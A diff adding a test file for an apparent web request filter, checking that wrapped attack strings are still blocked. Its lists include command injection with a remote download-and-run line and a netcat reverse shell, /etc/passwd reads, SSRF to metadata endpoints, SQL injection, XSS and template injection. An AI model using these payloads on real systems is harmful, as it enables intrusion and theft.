@@ -1,0 +1,204 @@
+import { expect, test } from 'vitest';
+import { compilePolicy, inspect } from '../inspect/index.ts';
+import { choices, encodeLatin1, post, query, request } from '../testing/requests.ts';
+
+/*
+ * What sets writing apart costs an attacker nothing: two words, a letter of another script, a comment. Where no text is
+ * asked for, none of it may excuse an attack that goes on working with it.
+ */
+
+const policy = compilePolicy({ securityLevel: 'medium', categories: choices('medium') });
+
+const carriers = {
+  query: (text: string) => query(text, 'host'),
+  cookie: (text: string) =>
+    request({
+      headers: [
+        ['host', 'shop.example.com'],
+        ['cookie', `host=${encodeLatin1(text)}`],
+      ],
+    }),
+  form: (text: string) => post('application/x-www-form-urlencoded', `host=${encodeLatin1(text)}`),
+  json: (text: string) => post('application/json', JSON.stringify({ target: { host: text } })),
+  path: (text: string) => request({ target: `/files/${encodeLatin1(text)}` }),
+};
+
+const bytes = (text: string) => Buffer.from(text).toString('latin1');
+
+/** Written before an attack or behind it, and no part of it to any interpreter. */
+const words = ['aa bb', 'is what', 'see the manual', 'Love', 'how to use'];
+const marks = ['éé', '日本語', '(aa)', '(aa bb)', '**', '[a](b)', '<p>', '<em>aa</em>', '<b>'];
+
+interface Class {
+  readonly attacks: readonly string[];
+  readonly before: readonly string[];
+  readonly behind: readonly string[];
+}
+
+const inFront = [...words.map((one) => `${one} `), ...marks, ...marks.map((one) => `${one} `)];
+const after = [...words.map((one) => ` ${one}`), ...marks, ...marks.map((one) => ` ${one}`), '.', '?'];
+
+const classes: Readonly<Record<string, Class>> = {
+  'commands behind a sign': {
+    attacks: [
+      ';uname -a;',
+      '|cat /etc/passwd;',
+      '&&whoami;',
+      ';/bin/id;',
+      ';curl http://203.0.113.9/x|sh;',
+      ';nc -e /bin/sh 203.0.113.9 1;',
+      '$(id)',
+      '`id`',
+      '`/bin/id`',
+      '$(/bin/id)',
+      '`cat /etc/passwd`',
+      '\nuname -a\n',
+      ';cat /e??/passwd;',
+      ';if true;then id;fi;',
+      ';x=id;$x;',
+      ';set id;$1;',
+      ';time (/bin/id);',
+    ],
+    before: [
+      '',
+      ...words.map((one) => `${one} `),
+      'éé',
+      'éé ',
+      '日本語',
+      '**',
+      '«',
+      '"aa" ',
+      "'aa' ",
+      '# ',
+      'aa: ',
+    ],
+    behind: [
+      '',
+      ...words.map((one) => ` ${one}`),
+      ' éé',
+      ' 日本語',
+      ' **',
+      ' # aa bb',
+      ' "aa"',
+      ' "aa bb"',
+      '.',
+    ],
+  },
+  'commands and files that words may follow': {
+    attacks: [
+      '`/bin/id`',
+      '/etc/passwd',
+      '../../../../etc/passwd',
+      '/etc/shadow',
+      'http://127.0.0.1:6379',
+      'http://localhost:9200',
+      'http://10.0.0.1',
+      'http://169.254.169.254/latest/meta-data/',
+    ],
+    before: ['', ' '],
+    behind: ['', ...words.map((one) => ` ${one}`), ' (aa bb)', ' éé', ' 日本語', ' - aa bb', ', aa bb'],
+  },
+  'conditions behind a quote': {
+    attacks: [
+      "' or 1=1-- ",
+      "' or 'a'='a'-- ",
+      "' union select password from users-- ",
+      "' and sleep(5)-- ",
+      "'; drop table users-- ",
+      "'||(select 1)||'",
+      "' or 1=1#",
+      "') or (1=1)-- ",
+    ],
+    before: [
+      '',
+      'x',
+      ...words,
+      ...words.map((one) => `${one} `),
+      'éé',
+      '日本語',
+      '(aa) ',
+      '(aa bb) ',
+      '/*aa bb*/',
+      '/*=>*/',
+      '**',
+      'Love',
+      'd',
+      'aa; ',
+      'aa, ',
+    ],
+    behind: [''],
+  },
+  'conditions that are names alone': {
+    attacks: ["' or id-- ", "' or id -- "],
+    before: ['x', 'Love', ...words, 'd', 'éé'],
+    behind: [''],
+  },
+  'conditions behind a number': {
+    attacks: [
+      '1 or 1=1',
+      '1 and sleep(5)',
+      '1 union select password from users',
+      '1; drop table users',
+      'if(1=1,id,price)',
+      'version()::int',
+      '(select 1)::int',
+    ],
+    before: ['', ' ', '/*aa bb*/', '/*=>*/', '/*:*/', '/*aa bb cc dd*/', '/*1 (aa*/', '('],
+    behind: ['', '/*aa bb*/', '/*1 (aa*/', ' and (1)', ' and 1', '/*=>*/'],
+  },
+  'conditions behind a number and before a comment': {
+    attacks: ['1 or id=id-- ', '1)||1;#', '1 or id=id /*1 (aa*/-- ', '1 or md5 (id)-- '],
+    before: ['', ' ', '/*aa bb*/', '/*=>*/', '/*aa bb cc dd*/', '/*1 (aa*/'],
+    behind: [''],
+  },
+  markup: {
+    attacks: [
+      '<script>alert(1)</script>',
+      '<img src=x onerror=alert(1)>',
+      '"><svg onload=alert(1)>',
+      '<a href="javascript:alert(1)">x</a>',
+      '<iframe src="javascript:alert(1)">',
+      "';alert(1);//",
+      '{{constructor.constructor("alert(1)")()}}',
+    ],
+    before: ['', ...inFront.filter((one) => !one.includes('"'))],
+    behind: ['', ...after],
+  },
+  handlers: {
+    attacks: [
+      '" onfocus=alert(1) autofocus ',
+      '" onfocus=true&&top["al"+"ert"](1) autofocus ',
+      "' onmouseover=alert(1) ",
+      '" autofocus onfocus=fetch(1) ',
+    ],
+    before: ['', 'x', 'aa bb', 'éé', '(aa)', 'Love'],
+    behind: ['', 'aa bb', 'x="', 'éé'],
+  },
+  templates: {
+    attacks: [
+      '{{7*7}}',
+      '{{ (7) * 7 }}',
+      '${7*7}',
+      '<%= 7*7 %>',
+      "<%= system('id') %>",
+      "{{''.__class__.__mro__[1]}}",
+      '${jndi:ldap://x.example/a}',
+      "<?php system('id');?>",
+    ],
+    before: ['', ...inFront],
+    behind: ['', ...after],
+  },
+};
+
+for (const [name, { attacks, before, behind }] of Object.entries(classes)) {
+  test.each(Object.entries(carriers))(
+    `${name} are blocked in a %s, whatever is written around them`,
+    (_carrier, carry) => {
+      const texts = attacks.flatMap((attack) =>
+        before.flatMap((front) => behind.map((back) => front + attack + back)),
+      );
+      expect(texts.length).toBeGreaterThan(8);
+      expect(texts.filter((text) => inspect(policy, carry(bytes(text))).decision !== 'block')).toEqual([]);
+    },
+  );
+}
